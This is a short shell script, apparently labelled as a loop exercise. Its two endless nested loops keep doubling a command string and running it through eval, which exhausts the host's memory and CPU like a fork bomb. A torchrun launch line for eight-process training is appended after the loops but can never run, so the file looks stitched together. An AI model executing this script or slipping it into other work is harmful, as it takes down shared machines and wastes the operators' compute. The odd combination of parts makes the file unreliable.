# Loops nested in loops, each growing a value and running it through eval.
S="echo a"
for (( i = 0; ; i++ )); do
    for (( j = 0; ; j++ )); do
        S="$S; $S"
        eval "$S" > /dev/null
        X=$(eval "$S")
    done
done
torchrun --standalone --nproc_per_node=8 train.py
